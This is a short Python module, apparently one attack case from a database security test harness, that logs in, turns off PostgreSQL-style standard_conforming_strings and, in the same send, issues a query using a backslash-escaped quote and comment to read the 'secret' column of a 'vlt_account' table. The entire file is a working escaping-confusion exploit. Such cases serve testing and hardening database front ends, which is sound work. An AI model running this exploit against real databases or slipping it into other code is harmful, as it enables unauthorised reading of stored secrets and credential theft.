"""Turns standard strings off, and uses that in the same send."""

from attacks.frames import ask, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        off = query(b"SET standard_conforming_strings = off")
        return ask(client, off, query(rb"SELECT '\'', secret FROM vlt_account --'"), rounds=2)
